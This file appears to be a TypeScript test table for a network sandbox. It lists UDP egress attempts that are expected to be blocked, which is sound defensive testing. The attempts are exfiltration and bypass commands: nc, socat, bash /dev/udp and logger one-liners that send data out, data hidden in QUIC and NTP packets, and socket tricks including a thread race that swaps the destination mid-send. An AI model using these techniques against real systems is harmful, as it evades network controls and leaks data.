import type { Row } from '../case.ts'
import { curl, python } from './script.ts'

const by = 'connect: `EPERM`'
const packet = 'packet: `EPERM`'
const acts = [
  ['udp-connect', 'connected socket'],
  ['udp-sendto', 'sendto'],
  ['udp-sendmsg', 'sendmsg'],
  ['udp-sendmmsg', 'sendmmsg'],
] as const

const ok = (command: string): string => `${command} | tee /dev/stderr | grep -q '^ok'`

export const datagrams: Row = {
  row: 11,
  title: 'QUIC and other UDP',
  cases: [
    {
      id: 'quic-allowed-host',
      technique: 'QUIC Initial (UDP 443) to a host that is allowed for TCP',
      attempt: python(`
initial = b'\\xc3\\0\\0\\0\\1\\x08' + DATA + b'\\0\\0' + os.urandom(1180)
udp((address_of('good.example.com'), 443), initial)`),
      twin: curl('"https://good.example.com/$T"'),
      by,
    },
    {
      id: 'quic-address',
      technique: 'QUIC Initial to a bare address',
      attempt: python(
        `udp((D4, 443), b'\\xc3\\0\\0\\0\\1\\x08' + DATA + b'\\0\\0' + os.urandom(1180))`,
      ),
      twin: python(`udp(WHERE4)`),
      by,
    },
    ...acts.flatMap(([act, what]) =>
      [
        ['4', '$D4', 'IPv4'],
        ['6', '$D6', 'IPv6'],
        ['mapped', '::ffff:$D4', 'IPv4-mapped'],
      ].map(([id, address, family]) => ({
        id: `${act}-${id}`,
        technique: `${what}, ${family}`,
        attempt: ok(`$ACT ${act} ${address} 8080`),
        by,
      })),
    ),
    {
      id: 'udp-v4-on-v6',
      technique: 'IPv6 socket that names an IPv4 destination',
      attempt: ok('$ACT udp-v4-on-v6 $D4 8080'),
      twin: ok('$ACT udp-sendto $D4 8080'),
      by,
    },
    {
      id: 'udp-large',
      technique: 'datagram that the kernel cuts into fragments',
      attempt: ok('$ACT udp-large $D4 8080'),
      by,
    },
    {
      id: 'udplite',
      technique: 'UDP-Lite',
      attempt: ok('$ACT udplite $D4 8080'),
      twin: ok('$ACT udp-sendto $D4 8080'),
      by,
    },
    {
      id: 'udp-for-tcp',
      technique: 'UDP to an address and port allowed for TCP only',
      attempt: python(`udp(('198.51.100.40', 8080))`),
      twin: python(`s = made(); s.connect(('198.51.100.40', 8080)); s.sendall(DATA)`),
      by,
    },
    {
      id: 'udp-other-port',
      technique: 'UDP to another port of an allowed address',
      attempt: python(`udp((D4.replace('11.18', '11.19'), 9000))`),
      twin: python(`udp(WHERE4)`),
      by,
    },
    {
      id: 'tcp-other-port',
      technique: 'TCP to another port of an allowed address',
      attempt: python(`tcp((D4.replace('11.18', '11.19'), 9000))`),
      twin: python(`tcp(WHERE4)`),
      by,
    },
    {
      id: 'udp-corked',
      technique: 'datagram put together with MSG_MORE',
      attempt: python(`
s = made(kind=socket.SOCK_DGRAM)
s.connect(WHERE4)
s.send(DATA, socket.MSG_MORE)
s.send(DATA)`),
      by: packet,
    },
    {
      id: 'udp-segmented',
      technique: 'one send cut into many datagrams (UDP_SEGMENT)',
      attempt: python(`
s = made(kind=socket.SOCK_DGRAM)
s.setsockopt(17, 103, 100)
s.sendto(DATA * 100, WHERE4)`),
      by,
    },
    {
      id: 'udp-encapsulating',
      technique: 'socket for ESP in UDP (UDP_ENCAP)',
      attempt: python(`
s = made(kind=socket.SOCK_DGRAM)
s.setsockopt(17, 100, 2)
s.connect(WHERE4)
s.send(DATA)`),
      by: packet,
    },
    {
      id: 'address-form',
      technique:
        'IPv6 socket connected to an allowed IPv4 address, made an IPv4 one (IPV6_ADDRFORM), which sends elsewhere',
      attempt: python(`
s = made(socket.AF_INET6, socket.SOCK_DGRAM)
s.connect(('::ffff:' + D4.replace('11.18', '11.19'), 8080))
s.setsockopt(41, 1, 2)
libc = ctypes.CDLL(None, use_errno=True)
to = struct.pack('=H', 2) + struct.pack('!H4s8x', 8080, socket.inet_aton(D4))
sent = [libc.sendto(s.fileno(), DATA, 8, 0, to, 16), libc.connect(s.fileno(), to, 16), libc.send(s.fileno(), DATA, 8, 0)]
raise SystemExit(0 if 8 in sent else 9)`),
      by,
    },
    {
      id: 'udp-reconnected',
      technique:
        'socket that is connected to an allowed place, dissolved (AF_UNSPEC), and sends elsewhere',
      attempt: python(`
s = made(kind=socket.SOCK_DGRAM)
s.connect((D4.replace('11.18', '11.19'), 8080))
libc = ctypes.CDLL(None, use_errno=True)
libc.connect(s.fileno(), bytes(16), 16)
s.connect(WHERE4)
s.send(DATA)`),
      by: packet,
    },
    {
      id: 'udp-other-destination',
      technique: 'sendto elsewhere over a socket connected to an allowed place',
      attempt: python(`
s = made(kind=socket.SOCK_DGRAM)
s.connect((D4.replace('11.18', '11.19'), 8080))
s.sendto(DATA, WHERE4)`),
      by,
    },
    {
      id: 'udp-source-chosen',
      technique: 'source address and interface chosen by IP_PKTINFO',
      attempt: python(`
s = made(kind=socket.SOCK_DGRAM)
info = struct.pack('i4s4s', socket.if_nametoindex('to-internet'), socket.inet_aton('192.0.2.2'), b'\\0' * 4)
s.sendmsg([DATA], [(0, 8, info)], 0, WHERE4)`),
      by,
    },
    {
      id: 'udp-two-threads',
      technique: 'destination changed in memory by another thread during sendto',
      attempt: python(`
import threading
good, bad = (struct.pack('!HH4s8x', 0, 8080, socket.inet_aton(a)) for a in (D4.replace('11.18', '11.19'), D4))
good, bad = (struct.pack('H', socket.AF_INET) + a[2:] for a in (good, bad))
where = ctypes.create_string_buffer(bad, 16)
libc = ctypes.CDLL(None, use_errno=True)
s = made(kind=socket.SOCK_DGRAM)
libc.sendto(s.fileno(), b'x', 1, 0, where, 16) # once for certain
over = False
def flip():
    while not over:
        ctypes.memmove(where, bad, 16)
        ctypes.memmove(where, good, 16)
threading.Thread(target=flip).start()
for _ in range(3000): libc.sendto(s.fileno(), b'x', 1, 0, where, 16)
over = True`),
      twin: python(`udp(WHERE4)`),
      by,
    },
    {
      id: 'udp-nc',
      technique: 'nc -u',
      attempt: 'echo "$T" | nc -u -q 0 -w 2 $D4 8080',
      by: packet,
    },
    {
      id: 'udp-socat',
      technique: 'socat UDP-SENDTO',
      attempt: 'echo "$T" | socat -u - UDP-SENDTO:$D4:8080',
      by,
    },
    {
      id: 'udp-bash',
      technique: 'bash /dev/udp',
      attempt: 'echo "$T" >/dev/udp/$D4/8080',
      by: packet,
    },
    {
      id: 'udp-syslog',
      technique: 'message to a log server (logger -n, UDP 514)',
      attempt: 'logger -d -n $D4 -P 514 "$T"; exit 9',
      twin: 'logger -d -n $D4 -P 8080 "$T"',
      by: packet,
    },
    {
      id: 'udp-ntp',
      technique: 'data in an NTP request (UDP 123)',
      attempt: python(`udp((D4, 123), b'\\x1b' + DATA.ljust(47, b'\\0'))`),
      twin: python(`udp(WHERE4)`),
      by,
    },
    {
      id: 'udp-traceroute',
      technique: 'datagrams with a small hop count, as traceroute sends them',
      attempt: python(`
s = made(kind=socket.SOCK_DGRAM)
s.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 3)
s.sendto(DATA, WHERE4)`),
      by,
    },
  ],
}
